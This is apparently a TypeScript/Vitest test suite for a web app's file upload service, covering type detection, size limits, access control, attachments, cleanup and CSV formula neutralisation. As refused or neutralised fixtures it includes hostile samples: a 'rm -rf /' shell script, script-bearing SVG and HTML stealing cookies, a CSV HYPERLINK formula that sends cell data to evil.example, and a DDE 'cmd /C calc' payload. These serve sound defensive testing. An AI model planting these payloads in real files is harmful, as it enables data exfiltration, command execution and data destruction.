import { createHash, randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, eq, sql } from 'drizzle-orm';
import { ROLES } from '@hqt/contract/auth';
import { FILE_LIMITS, FILE_MSG, FILE_PATHS, fileUrl, type UploadedFile } from '@hqt/contract/files';
import { OWN_MSG } from '@hqt/contract/messages';
import type { App } from '../../src/app';
import { attachments, auditLog, files } from '../../src/db/schema/index';
import type { SignedInCtx } from '../../src/lib/ctx';
import { removeUnattached } from '../../src/services/files/cleanup';
import { neutraliseCsv } from '../../src/services/files/csv';
import { attach, attachmentsOf } from '../../src/services/files/public';
import { bearer, createAccount, createTestApp, loginAs, type TestAccount } from '../helpers/app';

/**
 * A service that exists only in this test: a case belongs to the enterprise account whose id it
 * carries; that account and staff may read its files. Registered through the public API, as a
 * service does while the app starts.
 */
const CASE = 'test-case';

let app: App;
let uploadsDir: string;
let alice: TestAccount;
let bob: TestAccount;
let staff: TestAccount;
let as: Record<'alice' | 'bob' | 'staff', Record<string, string>>;

beforeAll(async () => {
  uploadsDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hqt-files-'));
  app = await createTestApp(
    { UPLOADS_DIR: uploadsDir },
    {
      beforeReady: (built) =>
        built.files.register(CASE, async (_db, ctx, ownerId) => ctx.scope.roleId !== ROLES.enterprise.id || ctx.scope.accountId === ownerId),
    },
  );
  alice = await createAccount(app, { name: '云溪智造科技有限公司' });
  bob = await createAccount(app, { name: '另一家企业有限公司' });
  staff = await createAccount(app, { roleId: ROLES.staff.id, name: '张工作' });
  as = {
    alice: bearer((await loginAs(app, alice)).access_token),
    bob: bearer((await loginAs(app, bob)).access_token),
    staff: bearer((await loginAs(app, staff)).access_token),
  };
});
afterAll(async () => {
  await app.close();
  fs.rmSync(uploadsDir, { recursive: true, force: true });
});

// ---- fixtures: small real files of each kind -------------------------------------------------------

const unique = () => randomBytes(12).toString('hex');

/** A zip with stored (uncompressed) entries, as Office writes docx, xlsx and pptx (deflated there). */
function zip(entries: Record<string, string>): Buffer {
  const local: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of Object.entries(entries)) {
    const nameBytes = Buffer.from(name);
    const data = Buffer.from(text);
    const crc = zlib.crc32(data);
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt32LE(crc, 14);
    head.writeUInt32LE(data.length, 18);
    head.writeUInt32LE(data.length, 22);
    head.writeUInt16LE(nameBytes.length, 26);
    local.push(head, nameBytes, data);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt32LE(crc, 16);
    entry.writeUInt32LE(data.length, 20);
    entry.writeUInt32LE(data.length, 24);
    entry.writeUInt16LE(nameBytes.length, 28);
    entry.writeUInt32LE(offset, 42);
    central.push(entry, nameBytes);
    offset += head.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...local, directory, end]);
}

const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/${main}" ContentType="x"/></Types>`;
const ooxml = (main: string, more: Record<string, string> = {}) =>
  zip({ '[Content_Types].xml': contentTypes(main), '_rels/.rels': '<Relationships/>', [main]: `<doc id="${unique()}"/>`, ...more });

/** An OLE2 compound file: the header and one directory sector (Root Entry and the named stream). */
function ole2(stream: string): Buffer {
  const file = Buffer.alloc(1024);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file, 0);
  file.writeUInt16LE(0x3e, 0x18); // minor version
  file.writeUInt16LE(3, 0x1a); // major version 3: 512-byte sectors
  file.writeUInt16LE(0xfffe, 0x1c); // little-endian
  file.writeUInt16LE(9, 0x1e); // sector shift
  file.writeUInt32LE(0, 0x30); // first directory sector
  const entry = (at: number, name: string, type: number) => {
    const bytes = Buffer.from(`${name}\0`, 'utf16le');
    bytes.copy(file, at);
    file.writeUInt16LE(bytes.length, at + 0x40);
    file[at + 0x42] = type;
  };
  entry(512, 'Root Entry', 5);
  entry(512 + 128, stream, 2);
  randomBytes(64).copy(file, 512 + 256 + 64); // unique content
  return file;
}

const PNG = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
const png = (size = 64) => {
  const head = Buffer.concat([Buffer.from(PNG), randomBytes(16)]);
  return Buffer.concat([head, Buffer.alloc(Math.max(0, size - head.length), 0x2a)]);
};
const pdf = (size = 0) => {
  const body = Buffer.from(`%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n% ${unique()}\n`);
  return Buffer.concat([body, Buffer.alloc(Math.max(0, size - body.length - 6), 0x20), Buffer.from('%%EOF\n')]);
};

const ACCEPTED: { label: string; content: () => Buffer; filename: string; type: string; name?: string }[] = [
  { label: 'PNG', content: () => png(), filename: '截图.png', type: 'image/png' },
  { label: 'JPEG', content: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(32)]), filename: 'photo.jpeg', type: 'image/jpeg' },
  { label: 'GIF', content: () => Buffer.concat([Buffer.from('GIF89a'), randomBytes(32)]), filename: 'a.gif', type: 'image/gif' },
  { label: 'WebP', content: () => Buffer.concat([Buffer.from('RIFF'), Buffer.from([0x24, 0, 0, 0]), Buffer.from('WEBPVP8 '), randomBytes(16)]), filename: 'a.webp', type: 'image/webp' },
  { label: 'PDF', content: () => pdf(), filename: '申报材料.pdf', type: 'application/pdf' },
  { label: 'docx', content: () => ooxml('word/document.xml'), filename: '情况说明.docx', type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' },
  { label: 'xlsx', content: () => ooxml('xl/workbook.xml'), filename: '产值表.xlsx', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
  { label: 'pptx', content: () => ooxml('ppt/presentation.xml'), filename: '汇报.pptx', type: 'application/vnd.openxmlformats-officedocument.presentationml.presentation' },
  { label: 'doc', content: () => ole2('WordDocument'), filename: '旧版文档.doc', type: 'application/msword' },
  { label: 'xls', content: () => ole2('Workbook'), filename: '旧版表格.xls', type: 'application/vnd.ms-excel' },
  { label: 'text', content: () => Buffer.from(`企业名称,产值\n云溪智造,1200\n${unique()}\n`), filename: '数据.csv', type: 'text/plain' },
  // The name follows the type the bytes prove: a PDF called .exe downloads as a PDF.
  { label: 'PDF named .exe', content: () => pdf(), filename: 'report.exe', type: 'application/pdf', name: 'report.exe.pdf' },
];

interface Part {
  content: Buffer;
  filename?: string;
  type?: string;
  field?: string;
}

/** A multipart/form-data body, written by hand as a browser would send it. */
function multipart(parts: Part[]) {
  const boundary = `----hqt${randomBytes(8).toString('hex')}`;
  const chunks: Buffer[] = [];
  for (const p of parts) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${p.field ?? 'file'}"; filename="${p.filename ?? 'a.pdf'}"\r\nContent-Type: ${p.type ?? 'application/octet-stream'}\r\n\r\n`,
      ),
      p.content,
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const upload = (parts: Part[], headers: Record<string, string> = as.alice) => {
  const body = multipart(parts);
  return app.inject({ method: 'POST', url: FILE_PATHS.upload, headers: { ...headers, ...body.headers }, payload: body.payload });
};
const uploadOne = async (content: Buffer, filename = 'a.pdf', headers: Record<string, string> = as.alice) => {
  const res = await upload([{ content, filename }], headers);
  expect(res.statusCode, res.body).toBe(200);
  return (res.json().data as UploadedFile[])[0]!;
};
const download = (id: number, headers: Record<string, string>) => app.inject({ method: 'GET', url: fileUrl(id), headers });

const privateFiles = () => (fs.existsSync(path.join(uploadsDir, 'private')) ? fs.readdirSync(path.join(uploadsDir, 'private')).sort() : []);
const rowCount = () => app.db.$count(files);
const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const refused = (msg: string) => ({ code: 400, msg, data: null });
const notFound = { code: 404, msg: OWN_MSG.notFound, data: null };

const ctxOf = (account: TestAccount, roleId: number = ROLES.enterprise.id): SignedInCtx => ({
  ip: '10.0.0.1',
  actor: { accountId: account.id, username: account.username, name: '', roleId, sessionId: 'x' },
  scope: { accountId: account.id, roleId, enterpriseIds: [] },
});
const attachTo = (account: TestAccount, ownerId: number, ids: number[]) => app.db.transaction((tx) => attach(tx, ctxOf(account), CASE, ownerId, ids));

// ---- uploading -------------------------------------------------------------------------------------

describe('POST /api/files', () => {
  it('accepts each allowed type, typed by its bytes, and gives it back to its uploader byte for byte', async () => {
    for (const f of ACCEPTED) {
      const content = f.content();
      const res = await upload([{ content, filename: f.filename, type: 'application/octet-stream' }]);
      expect(res.statusCode, `${f.label}: ${res.body}`).toBe(200);
      const [file] = res.json().data as UploadedFile[];
      expect(file, f.label).toEqual({ id: expect.any(Number), name: f.name ?? f.filename, size: content.length, type: f.type });
      expect(fs.readFileSync(path.join(uploadsDir, 'private', sha(content))).equals(content), f.label).toBe(true);

      const got = await download(file!.id, as.alice);
      expect(got.statusCode, f.label).toBe(200);
      expect(got.rawPayload.equals(content), f.label).toBe(true);
      expect(got.headers['content-type'], f.label).toBe(f.type !== 'text/plain' ? f.type : f.filename.endsWith('.csv') ? 'text/csv; charset=utf-8' : 'text/plain; charset=utf-8');
    }
  });

  it('records the upload in the audit log', async () => {
    const content = pdf();
    const file = await uploadOne(content);
    const rows = await app.db.select().from(auditLog).where(and(eq(auditLog.action, 'file.upload'), eq(auditLog.accountId, alice.id)));
    expect(rows.map((r) => r.detail)).toContainEqual({ files: [{ id: file.id, bytes: content.length, type: 'application/pdf' }] });
  });

  it('refuses a disguised executable, SVG or HTML whatever its name, storing nothing of the request', async () => {
    const cases: Part[] = [
      { content: Buffer.concat([Buffer.from('MZ'), randomBytes(200)]), filename: 'report.pdf', type: 'application/pdf' },
      { content: Buffer.concat([Buffer.from('\x7fELF'), randomBytes(200)]), filename: 'data.xlsx' },
      { content: Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), randomBytes(200)]), filename: 'notes.txt' },
      { content: Buffer.from('#!/bin/sh\nrm -rf /\n'), filename: 'readme.txt', type: 'text/plain' },
      // MZ that is otherwise printable text is still a program's header.
      { content: Buffer.from('MZ this is fine, really'), filename: 'a.txt', type: 'text/plain' },
      { content: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'), filename: 'a.png', type: 'image/png' },
      { content: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), filename: 'a.txt', type: 'text/plain' },
      { content: Buffer.from('<!DOCTYPE html><html><body><script>alert(1)</script></body></html>'), filename: 'a.txt', type: 'text/plain' },
      { content: Buffer.from('\uFEFF  \n<html><script>alert(1)</script>'), filename: 'a.txt', type: 'text/plain' },
      { content: Buffer.from('通知\n<script>alert(1)</script>'), filename: 'a.txt', type: 'text/plain' },
      // Not text: NUL bytes, invalid UTF-8.
      { content: Buffer.from('abc\0def'), filename: 'a.txt', type: 'text/plain' },
      { content: Buffer.from([0x61, 0xff, 0xfe, 0x62]), filename: 'a.txt', type: 'text/plain' },
      // A zip that is not an Office document (a Java archive), a macro-enabled document, a compound file that is neither doc nor xls (an installer).
      { content: zip({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil\n', 'Evil.class': unique() }), filename: 'a.docx' },
      { content: ooxml('word/document.xml', { 'word/vbaProject.bin': unique() }), filename: 'a.docx' },
      { content: ole2('!_StringPool'), filename: 'a.doc' },
      // Half a PNG signature.
      { content: Buffer.from(PNG.slice(0, 4)), filename: 'a.png', type: 'image/png' },
    ];
    const [rows, stored] = [await rowCount(), privateFiles()];
    for (const part of cases) {
      const res = await upload([{ content: pdf(), filename: 'ok.pdf' }, part]);
      expect(res.statusCode, part.content.toString('latin1').slice(0, 30)).toBe(400);
      expect(res.json(), part.content.toString('latin1').slice(0, 30)).toEqual(refused(FILE_MSG.wrongType));
    }
    expect(await rowCount()).toBe(rows);
    expect(privateFiles()).toEqual(stored);
  });

  it('takes 10 MB and five files, and refuses a byte more or a sixth file, storing nothing of the request', async () => {
    const exact = await upload([{ content: pdf(FILE_LIMITS.maxBytes), filename: 'big.pdf' }]);
    expect(exact.statusCode).toBe(200);
    expect(exact.json().data[0].size).toBe(10 * 1024 * 1024);
    const five = await upload(Array.from({ length: FILE_LIMITS.maxPerItem }, () => ({ content: pdf() })));
    expect(five.statusCode).toBe(200);
    expect(five.json().data).toHaveLength(5);

    const [rows, stored] = [await rowCount(), privateFiles()];
    const tooBig = await upload([{ content: pdf() }, { content: pdf(FILE_LIMITS.maxBytes + 1), filename: 'big.pdf' }]);
    expect(tooBig.statusCode).toBe(400);
    expect(tooBig.json()).toEqual(refused(FILE_MSG.tooLarge));
    const six = await upload(Array.from({ length: FILE_LIMITS.maxPerItem + 1 }, () => ({ content: pdf() })));
    expect(six.statusCode).toBe(400);
    expect(six.json()).toEqual(refused(FILE_MSG.tooMany));
    expect(await rowCount()).toBe(rows);
    expect(privateFiles()).toEqual(stored);
  });

  it('refuses an empty file, no file, another body than multipart, a broken multipart and another field', async () => {
    const [rows, stored] = [await rowCount(), privateFiles()];
    expect((await upload([{ content: Buffer.alloc(0) }])).json()).toEqual(refused(FILE_MSG.wrongType));
    expect((await upload([])).json()).toEqual(refused(FILE_MSG.empty));
    const nothing = await app.inject({ method: 'POST', url: FILE_PATHS.upload, headers: as.alice });
    expect(nothing.json()).toEqual(refused(FILE_MSG.empty));
    for (const [type, payload] of [
      ['application/json', JSON.stringify({ file: 'x' })],
      ['application/pdf', pdf()],
      ['text/plain', 'hello'],
    ] as const) {
      const res = await app.inject({ method: 'POST', url: FILE_PATHS.upload, headers: { ...as.alice, 'content-type': type }, payload });
      expect(res.statusCode, type).toBe(400);
      expect(res.json(), type).toEqual(refused(FILE_MSG.empty));
    }
    const noBoundary = await app.inject({ method: 'POST', url: FILE_PATHS.upload, headers: { ...as.alice, 'content-type': 'multipart/form-data' }, payload: 'x' });
    expect(noBoundary.json()).toEqual(refused(OWN_MSG.badRequest));
    const cut = multipart([{ content: pdf() }]);
    const cutShort = await app.inject({ method: 'POST', url: FILE_PATHS.upload, headers: { ...as.alice, ...cut.headers }, payload: cut.payload.subarray(0, cut.payload.length - 20) });
    expect(cutShort.statusCode).toBe(400);
    expect(cutShort.json().msg).toBe(OWN_MSG.badRequest);
    expect((await upload([{ content: pdf(), field: 'upload' }])).json()).toEqual(refused(OWN_MSG.badRequest));
    expect(await rowCount()).toBe(rows);
    expect(privateFiles()).toEqual(stored);
  });

  it('admits any signed-in account and no one else', async () => {
    const anonymous = await upload([{ content: pdf() }], {});
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json()).toMatchObject({ code: 401, msg: OWN_MSG.notLoggedIn });
    expect((await upload([{ content: pdf() }], as.staff)).statusCode).toBe(200);
  });
});

// ---- reading ---------------------------------------------------------------------------------------

describe('GET /api/files/:id', () => {
  it('answers the uploader with the file as a download; another account, staff included, gets the 404 of a file that does not exist', async () => {
    const content = pdf();
    const file = await uploadOne(content, '企业 申报(2026).pdf');
    const got = await download(file.id, as.alice);
    expect(got.statusCode).toBe(200);
    expect(got.rawPayload.equals(content)).toBe(true);
    expect(got.headers['content-type']).toBe('application/pdf');
    expect(got.headers['content-length']).toBe(String(content.length));
    expect(got.headers['content-disposition']).toBe(`attachment; filename="__ __(2026).pdf"; filename*=UTF-8''%E4%BC%81%E4%B8%9A%20%E7%94%B3%E6%8A%A5%282026%29.pdf`);
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    expect(got.headers['cache-control']).toMatch(/^private\b/);
    expect(got.headers['content-security-policy']).toBe("default-src 'none'");

    const missing = await download(file.id + 100_000, as.alice);
    for (const res of [await download(file.id, as.bob), await download(file.id, as.staff), missing]) {
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual(notFound);
    }
    expect((await download(file.id, {})).statusCode).toBe(401);
  });

  it('does not serve the editor\'s public images here (they have their own address)', async () => {
    const body = multipart([{ content: png(), filename: 'a.png', type: 'image/png' }]);
    const res = await app.inject({ method: 'POST', url: '/api/console/uploads/images', headers: { ...as.staff, ...body.headers }, payload: body.payload });
    expect(res.statusCode).toBe(200);
    const [row] = await app.db.select().from(files).where(and(eq(files.kind, 'image'), eq(files.uploaderId, staff.id)));
    expect(row).toMatchObject({ type: 'image/png', name: 'a.png' });
    expect((await download(row!.id, as.staff)).json()).toEqual(notFound);
  });
});

// ---- attaching -------------------------------------------------------------------------------------

describe('attachments', () => {
  it('once attached, a file answers whom its service admits (the case\'s enterprise and staff), 404 to the others', async () => {
    const content = Buffer.from(`说明：本次申报的补充材料。${unique()}\n`);
    const file = await uploadOne(content, '补充说明.txt');
    await attachTo(alice, alice.id, [file.id]);
    expect(await attachmentsOf(app.db, CASE, alice.id)).toEqual([
      { id: file.id, name: '补充说明.txt', size: content.length, type: 'text/plain', role: null, url: `/api/files/${file.id}`, createdAt: expect.any(String) },
    ]);
    for (const who of [as.alice, as.staff]) {
      const res = await download(file.id, who);
      expect(res.statusCode).toBe(200);
      expect(res.rawPayload.equals(content)).toBe(true);
    }
    expect((await download(file.id, as.bob)).json()).toEqual(notFound);

    // Attached to a case of bob's, alice's own upload is bob's (and staff's) to read, no longer hers.
    const other = await uploadOne(pdf());
    await attachTo(alice, bob.id, [other.id]);
    expect((await download(other.id, as.bob)).statusCode).toBe(200);
    expect((await download(other.id, as.alice)).json()).toEqual(notFound);
  });

  it('attaches only the caller\'s own unattached uploads, at most five per item, all or none', async () => {
    const bobs = await uploadOne(pdf(), 'b.pdf', as.bob);
    await expect(attachTo(alice, alice.id + 1_000_000, [bobs.id])).rejects.toMatchObject({ status: 400, message: FILE_MSG.unavailable });
    const mine = await uploadOne(pdf());
    await attachTo(alice, 1_000_001, [mine.id]);
    await expect(attachTo(alice, 1_000_002, [mine.id])).rejects.toMatchObject({ status: 400, message: FILE_MSG.unavailable });
    await expect(attachTo(alice, 1_000_002, [999_999_999])).rejects.toMatchObject({ status: 400, message: FILE_MSG.unavailable });

    const ids = [];
    for (let i = 0; i < 6; i++) ids.push((await uploadOne(pdf())).id);
    await attachTo(alice, 1_000_003, ids.slice(0, 3));
    await expect(attachTo(alice, 1_000_003, ids.slice(3, 6))).rejects.toMatchObject({ status: 400, message: FILE_MSG.tooMany });
    expect(await attachmentsOf(app.db, CASE, 1_000_003)).toHaveLength(3);
    await attachTo(alice, 1_000_003, ids.slice(3, 5));
    expect((await attachmentsOf(app.db, CASE, 1_000_003)).map((f) => f.id)).toEqual(ids.slice(0, 5));

    // In the caller's transaction: rolled back with it, the file is not attached.
    const later = await uploadOne(pdf());
    await expect(
      app.db.transaction(async (tx) => {
        await attach(tx, ctxOf(alice), CASE, 1_000_004, [later.id]);
        throw new Error('the item failed');
      }),
    ).rejects.toThrow('the item failed');
    expect(await app.db.$count(attachments, eq(attachments.fileId, later.id))).toBe(0);
    expect((await download(later.id, as.alice)).statusCode).toBe(200);
  });

  it('at once: one file attached to two items goes to one, and an item filled by several hands holds five', async () => {
    const file = await uploadOne(pdf());
    const race = await Promise.allSettled([attachTo(alice, 3_000_001, [file.id]), attachTo(alice, 3_000_002, [file.id])]);
    expect(race.map((r) => r.status).sort()).toEqual(['fulfilled', 'rejected']);
    expect(race.find((r) => r.status === 'rejected')).toMatchObject({ reason: { status: 400, message: FILE_MSG.unavailable } });
    expect(await app.db.$count(attachments, eq(attachments.fileId, file.id))).toBe(1);

    const pairs = [];
    for (let i = 0; i < 4; i++) pairs.push([(await uploadOne(pdf())).id, (await uploadOne(pdf())).id]);
    const filled = await Promise.allSettled(pairs.map((ids) => attachTo(alice, 3_000_003, ids)));
    expect(filled.filter((r) => r.status === 'fulfilled')).toHaveLength(2);
    expect(await attachmentsOf(app.db, CASE, 3_000_003)).toHaveLength(4);
  });
});

// ---- clean-up --------------------------------------------------------------------------------------

describe('removing uploads never attached', () => {
  it('is scheduled on the shared job queue', async () => {
    const { rows } = await app.db.execute<{ cron: string }>(sql`select cron from pgboss.schedule where name = 'files-cleanup'`);
    expect(rows).toEqual([{ cron: expect.stringMatching(/^\d+ \* \* \* \*$/) }]);
  });

  it('removes unattached uploads older than a day (the bytes once no other upload holds them), keeps attached ones, recent ones and images', async () => {
    const shared = pdf();
    const old = await uploadOne(shared, 'old.pdf');
    const oldTwin = await uploadOne(shared, 'twin.pdf', as.bob);
    const oldAlone = await uploadOne(pdf(), 'alone.pdf');
    const oldAttached = await uploadOne(pdf(), 'attached.pdf');
    await attachTo(alice, 2_000_000, [oldAttached.id]);
    const recentTwinContent = pdf();
    const recentTwin = await uploadOne(recentTwinContent, 'recent-twin.pdf');
    const oldOfRecent = await uploadOne(recentTwinContent, 'old-of-recent.pdf');
    const dayAgo = sql`now() - interval '25 hours'`;
    for (const id of [old.id, oldTwin.id, oldAlone.id, oldAttached.id, oldOfRecent.id]) await app.db.update(files).set({ createdAt: dayAgo }).where(eq(files.id, id));
    await app.db.update(files).set({ createdAt: dayAgo }).where(eq(files.kind, 'image'));
    const images = await app.db.$count(files, eq(files.kind, 'image'));
    const bytesOf = async (id: number) => {
      const [row] = await app.db.select({ sha256: files.sha256 }).from(files).where(eq(files.id, id));
      return path.join(uploadsDir, 'private', row!.sha256);
    };
    const [sharedPath, alonePath, recentPath] = [await bytesOf(old.id), await bytesOf(oldAlone.id), await bytesOf(recentTwin.id)];

    const removed = await removeUnattached(app.db, uploadsDir, new Date(Date.now() - FILE_LIMITS.unattachedHours * 3600_000));
    expect(removed).toBeGreaterThanOrEqual(4);
    const left = new Set((await app.db.select({ id: files.id }).from(files)).map((r) => r.id));
    expect([old.id, oldTwin.id, oldAlone.id, oldOfRecent.id].filter((id) => left.has(id))).toEqual([]);
    expect(left.has(oldAttached.id) && left.has(recentTwin.id)).toBe(true);
    expect(await app.db.$count(files, eq(files.kind, 'image'))).toBe(images);
    // The bytes: gone where no upload holds them, kept for the recent upload of the same content.
    expect([fs.existsSync(sharedPath), fs.existsSync(alonePath), fs.existsSync(recentPath)]).toEqual([false, false, true]);
    for (const id of [old.id, oldAlone.id]) expect((await download(id, as.alice)).json()).toEqual(notFound);
    expect((await download(recentTwin.id, as.alice)).statusCode).toBe(200);
    expect((await download(oldAttached.id, as.staff)).statusCode).toBe(200);
  });
});

// ---- a .csv opened in a spreadsheet --------------------------------------------------------------

describe('a .csv attachment', () => {
  it('reaches staff as a download whose formula cells are text: opening it runs none', async () => {
    const csv = `企业名称,产值,备注\n=HYPERLINK("http://evil.example/?"&A1,"点击"),1200,-5\n云溪智造,+1+cmd|' /C calc'!A0,@SUM(1+1)\n"=1+2","-2+3",${unique()}\n`;
    const file = await uploadOne(Buffer.from(csv), '产值.csv');
    expect(file.type).toBe('text/plain');
    await attachTo(alice, alice.id, [file.id]);
    const got = await download(file.id, as.staff);
    expect(got.statusCode).toBe(200);
    expect(got.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(got.headers['content-disposition']).toMatch(/^attachment; /);
    expect(got.headers['x-content-type-options']).toBe('nosniff');
    const lines = got.body.split('\n');
    expect(lines[0]).toBe('企业名称,产值,备注');
    expect(lines[1]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"点击"),1200,-5`);
    expect(lines[2]).toBe(`云溪智造,'+1+cmd|' /C calc'!A0,'@SUM(1+1)`);
    expect(lines[3]!.startsWith(`"'=1+2","'-2+3",`)).toBe(true);
    expect(Number(got.headers['content-length'])).toBe(Buffer.byteLength(got.body));
    // The stored bytes stay as uploaded (the content's hash names them).
    expect(fs.readFileSync(path.join(uploadsDir, 'private', sha(Buffer.from(csv)))).toString()).toBe(csv);
  });

  it('neutraliseCsv: every cell a spreadsheet would run, whichever separator it splits on, and nothing else', () => {
    const cases: [string, string][] = [
      ['a,b\r\nc,d\r\n', 'a,b\r\nc,d\r\n'],
      ['=1+1', "'=1+1"],
      ['\uFEFF=1+1,x', "\uFEFF'=1+1,x"],
      ['x;=1+1;y', "x;'=1+1;y"],
      ['x\t@cmd\ty', "x\t'@cmd\ty"],
      ['  =1+1', "  '=1+1"],
      ['"\t=1","\r=2"', `"'\t=1","'\r=2"`],
      ['"a ""quoted"", =x",=y', `"a ""quoted"", =x",'=y`],
      ['"=a\nb",c\n', `"'=a\nb",c\n`],
      ['＝1+1', "'＝1+1"],
      ['-5,+3,-1.5e3, -2 ', '-5,+3,-1.5e3, -2 '],
      ['-5-1', "'-5-1"],
      ['a,,b,', 'a,,b,'],
      ['"unclosed =x', '"unclosed =x'],
      ['', ''],
    ];
    for (const [input, output] of cases) expect(neutraliseCsv(input), JSON.stringify(input)).toBe(output);
  });

  it('a .txt is served as it was uploaded', async () => {
    const content = Buffer.from(`=1+1\n${unique()}\n`);
    const file = await uploadOne(content, 'notes.txt');
    const got = await download(file.id, as.alice);
    expect(got.headers['content-type']).toBe('text/plain; charset=utf-8');
    expect(got.rawPayload.equals(content)).toBe(true);
  });
});
